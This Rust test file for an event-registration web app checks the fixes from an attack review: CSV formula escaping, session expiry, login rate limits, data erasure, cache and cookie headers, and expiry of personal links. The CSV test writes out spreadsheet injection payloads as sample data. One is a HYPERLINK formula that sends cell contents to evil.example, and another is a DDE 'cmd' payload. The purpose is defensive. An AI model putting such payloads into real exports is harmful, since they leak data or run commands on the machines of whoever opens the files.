//! What an attack review found, each as the attacker or the careless shared computer would
//! meet it: formulas in spreadsheets, sessions that outlive sign-out, password guessing, bad
//! bytes, leftovers after erasure, cached personal pages, cookies over HTTPS, a mail flood,
//! half-applied door uploads, the camera policy, and personal links that never expire.

use crate::common;
use crate::door;

use common::{
    bearer, client_with_settings, csrf_of, db, fresh_url, json_of, raw_sql, send_json, text_of,
    Backend, BACKENDS,
};
use rocket::http::{ContentType, Cookie, Method, Status};
use rocket::local::asynchronous::Client;
use serde_json::json;
use summit::jobs::outbox::Worker;
use summit::Settings;

const PASSWORD: &str = "une+phrase+assez+longue";

async fn app(backend: Backend) -> (Client, Settings) {
    let url = fresh_url(backend).await;
    let s = common::settings(&url, false);
    (client_with_settings(s.clone()).await, s)
}

/// A cell a spreadsheet would run as a formula.
fn is_formula(cell: &str) -> bool {
    let number = cell.parse::<f64>().is_ok();
    !number && cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn cells(csv_text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

#[rocket::async_test]
async fn no_csv_cell_runs_as_a_formula_and_none_loses_its_text() {
    let d = door::door(Backend::Sqlite).await;
    let c = &d.client;
    let evil = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
    ];
    for (i, name) in evil.iter().enumerate() {
        let body = json!({"name": name, "email": format!("p{i}@example.org"),
            "organisation": "=1+1", "attendance": "in_person", "language": "en"});
        common::register_via_api(c, "city-summit", body).await;
    }
    let session = json!({"title": "=2+2 open data", "kind": "plenary",
        "starts_at": "2027-06-15T12:00", "ends_at": "2027-06-15T13:00"});
    let path = "/api/v1/events/city-summit/sessions";
    let (status, _) = send_json(c, Method::Post, path, &d.organiser, session).await;
    assert_eq!(status, Status::Created);
    let ticket = json!({"name": "@Standard", "price_cents": 0});
    let path = "/api/v1/events/city-summit/tickets";
    let (status, _) = send_json(c, Method::Post, path, &d.organiser, ticket).await;
    assert_eq!(status, Status::Created);

    for path in [
        "/admin/events/city-summit/registrations.csv",
        "/events/city-summit/agenda.csv",
        "/admin/events/city-summit/dashboard.csv",
    ] {
        let res = c.get(path).header(bearer(&d.organiser)).dispatch().await;
        assert_eq!(res.status(), Status::Ok, "{path}");
        let text = res.into_string().await.unwrap();
        let all = cells(&text);
        let formulas: Vec<_> = all.iter().filter(|c| is_formula(c)).collect();
        assert!(formulas.is_empty(), "{path}: {formulas:?}");
        if path.contains("registrations") {
            for name in evil {
                assert!(all.contains(&format!("'{name}")), "{path} keeps {name}");
            }
            assert!(all.contains(&"'=1+1".to_string()), "organisation kept");
        }
        if path.contains("agenda") {
            assert!(all.contains(&"'=2+2 open data".to_string()), "{text}");
        }
        if path.contains("dashboard") {
            assert!(all.contains(&"'@Standard".to_string()), "{text}");
        }
    }
}

/// Signs in at `/login` as a person would; returns the answer's status.
async fn log_in(c: &Client, email: &str, password: &str) -> (Status, Option<String>) {
    let csrf = csrf_of(&text_of(c, "/login").await);
    let res = c
        .post("/login")
        .header(ContentType::Form)
        .body(format!("csrf={csrf}&email={email}&password={password}"))
        .dispatch()
        .await;
    let retry = res.headers().get_one("Retry-After").map(str::to_string);
    (res.status(), retry)
}

async fn admin_status(c: &Client, cookie: Option<Cookie<'static>>) -> Status {
    let mut req = c.get("/admin");
    if let Some(cookie) = cookie {
        req = req.cookie(cookie);
    }
    req.dispatch().await.status()
}

fn staff_cookie(c: &Client) -> Cookie<'static> {
    c.cookies()
        .get("staff")
        .expect("signed in")
        .clone()
        .into_owned()
}

async fn log_out(c: &Client, everywhere: bool) -> Status {
    let csrf = csrf_of(&text_of(c, "/admin").await);
    let res = c
        .post("/logout")
        .header(ContentType::Form)
        .body(format!("csrf={csrf}&everywhere={everywhere}"))
        .dispatch()
        .await;
    res.status()
}

#[rocket::async_test]
async fn signing_out_ends_the_session_on_the_server_and_sessions_expire() {
    for backend in BACKENDS {
        let url = fresh_url(backend).await;
        let c = client_with_settings(common::settings(&url, false)).await;
        common::sign_in_organiser(&c, "orga@example.org", None).await;
        let first = staff_cookie(&c);
        assert_eq!(admin_status(&c, None).await, Status::Ok);
        assert_eq!(log_out(&c, false).await, Status::SeeOther);
        assert_ne!(
            admin_status(&c, Some(first.clone())).await,
            Status::Ok,
            "{backend:?}: the old cookie, replayed, no longer opens /admin"
        );

        // The CSRF token a browser held before signing in is not the one after.
        let before = csrf_of(&text_of(&c, "/login").await);
        assert_eq!(
            log_in(&c, "orga@example.org", PASSWORD).await.0,
            Status::SeeOther
        );
        let after = csrf_of(&text_of(&c, "/admin").await);
        assert_ne!(before, after, "a new CSRF token at sign-in");

        // Two devices; "sign out on every device" from one ends the other too.
        let laptop = staff_cookie(&c);
        assert_eq!(
            log_in(&c, "orga@example.org", PASSWORD).await.0,
            Status::SeeOther
        );
        assert_eq!(admin_status(&c, Some(laptop.clone())).await, Status::Ok);
        assert_eq!(log_out(&c, true).await, Status::SeeOther);
        assert_ne!(
            admin_status(&c, Some(laptop)).await,
            Status::Ok,
            "{backend:?}"
        );

        // Idle for over two hours, or signed in over twelve: the server says no.
        assert_eq!(
            log_in(&c, "orga@example.org", PASSWORD).await.0,
            Status::SeeOther
        );
        assert_eq!(admin_status(&c, None).await, Status::Ok);
        raw_sql(
            &url,
            "UPDATE staff_sessions SET last_seen_at = last_seen_at - 7201",
        )
        .await;
        assert_ne!(admin_status(&c, None).await, Status::Ok, "idle expiry");
        assert_eq!(
            log_in(&c, "orga@example.org", PASSWORD).await.0,
            Status::SeeOther
        );
        raw_sql(
            &url,
            "UPDATE staff_sessions SET created_at = created_at - 43201",
        )
        .await;
        assert_ne!(admin_status(&c, None).await, Status::Ok, "absolute expiry");
    }
}

#[rocket::async_test]
async fn guessing_passwords_is_slowed_then_refused_even_with_the_right_one() {
    let (c, _) = app(Backend::Sqlite).await;
    common::sign_in_organiser(&c, "orga@example.org", None).await;
    assert_eq!(log_out(&c, false).await, Status::SeeOther);
    let mut answers = vec![];
    for _ in 0..40 {
        answers.push(log_in(&c, "orga@example.org", "wrong+password").await);
    }
    assert!(
        answers[..5].iter().all(|(s, _)| *s == Status::Unauthorized),
        "{answers:?}"
    );
    let refused: Vec<_> = answers
        .iter()
        .filter(|(s, _)| *s == Status::TooManyRequests)
        .collect();
    assert!(refused.len() >= 30, "{answers:?}");
    assert!(
        refused.iter().all(|(_, retry)| retry
            .as_deref()
            .and_then(|r| r.parse::<u64>().ok())
            .is_some_and(|s| s > 0)),
        "each 429 says when to try again: {refused:?}"
    );
    let (status, _) = log_in(&c, "orga@example.org", PASSWORD).await;
    assert_eq!(
        status,
        Status::TooManyRequests,
        "the right password waits too"
    );
    // An address nobody has is slowed the same way (nothing tells them apart).
    let unknown: Vec<_> = {
        let mut v = vec![];
        for _ in 0..8 {
            v.push(log_in(&c, "nobody@example.org", "x").await.0);
        }
        v
    };
    assert!(unknown.contains(&Status::TooManyRequests), "{unknown:?}");
}

#[rocket::async_test]
async fn a_tab_in_the_next_address_is_ignored_not_a_500() {
    let (c, _) = app(Backend::Sqlite).await;
    common::sign_in_organiser(&c, "orga@example.org", None).await;
    assert_eq!(log_out(&c, false).await, Status::SeeOther);
    let csrf = csrf_of(&text_of(&c, "/login").await);
    let res = c
        .post("/login")
        .header(ContentType::Form)
        .body(format!(
            "csrf={csrf}&email=orga@example.org&password={PASSWORD}&next=/%09/x"
        ))
        .dispatch()
        .await;
    assert_eq!(res.status(), Status::SeeOther);
    assert_eq!(res.headers().get_one("Location"), Some("/admin"));
}

/// Every file of the SQLite database, and every .eml in the outbox folder, as bytes.
fn leftovers(db_url: &str, outbox_dir: &str, needle: &str) -> Vec<String> {
    let path = db_url.trim_start_matches("sqlite://");
    let mut files: Vec<std::path::PathBuf> = ["", "-wal", "-shm", "-journal"]
        .iter()
        .map(|suffix| std::path::PathBuf::from(format!("{path}{suffix}")))
        .collect();
    if let Ok(dir) = std::fs::read_dir(outbox_dir) {
        files.extend(dir.filter_map(|e| e.ok()).map(|e| e.path()));
    }
    let needle = needle.as_bytes();
    files
        .into_iter()
        .filter(|f| {
            std::fs::read(f).is_ok_and(|bytes| {
                bytes
                    .windows(needle.len())
                    .any(|w| w.eq_ignore_ascii_case(needle))
            })
        })
        .map(|f| f.display().to_string())
        .collect()
}

#[rocket::async_test]
async fn erasing_leaves_nothing_in_the_database_files_or_the_outbox() {
    let url = fresh_url(Backend::Sqlite).await;
    let settings = common::settings(&url, false);
    let c = client_with_settings(settings.clone()).await;
    let organiser = common::organiser_token(&c).await;
    door::event(&c, &organiser, "city-summit", 100).await;
    let body = json!({"name": "Zéphyrine Quartermaine", "email": "zephyrine.quartermaine@example.org",
        "organisation": "Ville de Quartermaine", "attendance": "in_person", "language": "fr"});
    let (_, token) = common::register_via_api(&c, "city-summit", body).await;
    let worker = Worker::new(&settings).unwrap();
    assert_eq!(
        worker
            .tick(db(&c), summit::domain::time::now())
            .await
            .unwrap(),
        1
    );
    assert!(
        !leftovers(&url, &settings.outbox_dir, "quartermaine").is_empty(),
        "the registration and its mail are there before"
    );
    let res = c.post(format!("/r/{token}/erase")).dispatch().await;
    assert_eq!(res.status(), Status::Ok);
    let found = leftovers(&url, &settings.outbox_dir, "quartermaine");
    assert!(found.is_empty(), "still named in {found:?}");
}

#[rocket::async_test]
async fn personal_and_staff_answers_are_never_kept_by_a_cache() {
    let d = door::door(Backend::Sqlite).await;
    let c = &d.client;
    let (token, _) = door::register(c, "city-summit", "Ana Lima", &[]).await;
    for path in [
        format!("/r/{token}"),
        format!("/r/{token}/data.json"),
        format!("/r/{token}/calendar.ics"),
        format!("/r/{token}/badge"),
        format!("/api/v1/registrations/{token}"),
        "/admin/events/city-summit/registrations.csv".to_string(),
        "/api/v1/events/city-summit/registrations".to_string(),
    ] {
        let res = c
            .get(path.clone())
            .header(bearer(&d.organiser))
            .dispatch()
            .await;
        assert_eq!(res.status(), Status::Ok, "{path}");
        let cache = res.headers().get_one("Cache-Control").unwrap_or_default();
        assert!(cache.contains("no-store"), "{path}: {cache:?}");
    }
    let public = c.get("/events/city-summit").dispatch().await;
    let cache = public
        .headers()
        .get_one("Cache-Control")
        .unwrap_or_default();
    assert!(!cache.contains("no-store"), "public pages may be cached");
}

#[rocket::async_test]
async fn behind_https_cookies_are_secure_and_browsers_are_told_to_stay_on_https() {
    for (public_url, https) in [
        ("https://summit.test", true),
        ("http://127.0.0.1:8000", false),
    ] {
        let url = fresh_url(Backend::Sqlite).await;
        let mut s = common::settings(&url, false);
        s.public_url = public_url.into();
        let c = client_with_settings(s).await;
        let res = c.get("/login").dispatch().await;
        let hsts = res
            .headers()
            .get_one("Strict-Transport-Security")
            .map(str::to_string);
        let cookies: Vec<String> = res
            .headers()
            .get("Set-Cookie")
            .map(str::to_string)
            .collect();
        assert!(!cookies.is_empty(), "the CSRF cookie");
        assert_eq!(hsts.is_some(), https, "{public_url}: {hsts:?}");
        assert!(
            cookies.iter().all(|c| c.contains("Secure") == https),
            "{public_url}: {cookies:?}"
        );
    }
    let (c, _) = app(Backend::Sqlite).await;
    let (_, setup) = summit::store::staff::add_user(
        db(&c),
        "orga@example.org",
        summit::domain::StaffRole::Organiser,
        None,
    )
    .await
    .unwrap();
    let csrf = csrf_of(&text_of(&c, &format!("/setup/{setup}")).await);
    let res = c
        .post(format!("/setup/{setup}"))
        .header(ContentType::Form)
        .body(format!(
            "csrf={csrf}&password={PASSWORD}&confirm={PASSWORD}"
        ))
        .dispatch()
        .await;
    let cookies: Vec<String> = res
        .headers()
        .get("Set-Cookie")
        .map(str::to_string)
        .collect();
    let staff = cookies
        .iter()
        .find(|c| c.starts_with("staff="))
        .expect("signed in");
    assert!(
        staff.contains("Secure") && staff.contains("HttpOnly"),
        "{staff}"
    );
}

#[rocket::async_test]
async fn asking_again_and_again_sends_one_link_and_answers_alike() {
    for backend in BACKENDS {
        let d = door::door(backend).await;
        let c = &d.client;
        let body = json!({"name": "Ana Lima", "email": "ana@example.org",
            "attendance": "in_person", "language": "en"});
        let (first, _) = common::register_via_api(c, "city-summit", body.clone()).await;
        let id = first["id"].as_i64().unwrap();
        let mut answers = vec![];
        for _ in 0..19 {
            let res = c
                .post("/api/v1/events/city-summit/registrations")
                .header(ContentType::JSON)
                .body(body.to_string())
                .dispatch()
                .await;
            answers.push((res.status(), json_of(res).await));
        }
        assert!(answers.iter().all(|a| a == &answers[0]), "{answers:?}");
        for _ in 0..5 {
            let page = text_of(c, "/events/city-summit/resend").await;
            common::post_form(
                c,
                "/events/city-summit/resend",
                format!("csrf={}&email=ana@example.org", csrf_of(&page)),
            )
            .await;
        }
        let kinds: Vec<_> = summit::store::outbox::for_registration(db(c), id)
            .await
            .unwrap()
            .into_iter()
            .map(|m| m.message_kind)
            .collect();
        assert_eq!(kinds, ["registered"], "{backend:?}: one e-mail, not 25");
    }
}

#[rocket::async_test]
async fn a_refused_door_upload_writes_none_of_its_scans() {
    for backend in BACKENDS {
        let d = door::door(backend).await;
        let c = &d.client;
        let (_, other_workshop) = door::event(c, &d.organiser, "other-summit", 10).await;
        let _ = other_workshop;
        let (ana, _) = door::register(c, "city-summit", "Ana Lima", &[]).await;
        let (bob, _) = door::register(c, "other-summit", "Bob Stone", &[]).await;
        let bob_id = summit::store::registrations::by_token(db(c), &bob)
            .await
            .unwrap()
            .id;
        let staff = door::door_token(c, Some(d.event_id)).await;
        let code = door::badge_text(c, &ana).await;
        let scans = json!({"scans": [
            {"code": code, "nonce": "n-1", "gate": "North", "admitted": true},
            {"registration_id": bob_id, "event": "other-summit", "nonce": "n-2", "admitted": true},
        ]});
        let res = c
            .post("/api/v1/checkins/batch")
            .header(ContentType::JSON)
            .header(bearer(&staff))
            .body(scans.to_string())
            .dispatch()
            .await;
        assert_eq!(res.status(), Status::Forbidden, "{backend:?}");
        let (status, verdict) = door::scan(c, Some(&staff), json!({"code": code})).await;
        assert_eq!(status, Status::Ok);
        assert_eq!(
            verdict["verdict"], "admitted",
            "{backend:?}: nothing was half-applied"
        );
    }
}

#[rocket::async_test]
async fn summits_camera_policy_is_the_one_sent() {
    let (c, _) = app(Backend::Sqlite).await;
    for path in ["/", "/scan", "/login"] {
        let res = c.get(path).dispatch().await;
        let policies: Vec<&str> = res.headers().get("Permissions-Policy").collect();
        assert_eq!(
            policies,
            ["camera=(self), microphone=(), geolocation=()"],
            "{path}"
        );
    }
}

#[rocket::async_test]
async fn an_older_personal_link_works_a_while_then_stops() {
    for backend in BACKENDS {
        let url = fresh_url(backend).await;
        let c = client_with_settings(common::settings(&url, false)).await;
        let organiser = common::organiser_token(&c).await;
        door::event(&c, &organiser, "city-summit", 100).await;
        let (token, _) = door::register(&c, "city-summit", "Ana Lima", &[]).await;
        let id = summit::store::registrations::by_token(db(&c), &token)
            .await
            .unwrap()
            .id;
        let newer = summit::store::registrations::issue_token(db(&c), id)
            .await
            .unwrap();
        let status = |t: String| {
            let c = &c;
            async move {
                c.get(format!("/api/v1/registrations/{t}"))
                    .dispatch()
                    .await
                    .status()
            }
        };
        assert_eq!(
            status(token.clone()).await,
            Status::Ok,
            "still works just after"
        );
        assert_eq!(status(newer.clone()).await, Status::Ok);
        // Thirty days on (the grace period, README), the older link leads nowhere.
        raw_sql(
            &url,
            "UPDATE registration_tokens SET expires_at = 1 WHERE expires_at IS NOT NULL",
        )
        .await;
        assert_eq!(status(token).await, Status::NotFound, "{backend:?}");
        assert_eq!(status(newer).await, Status::Ok, "{backend:?}");
    }
}
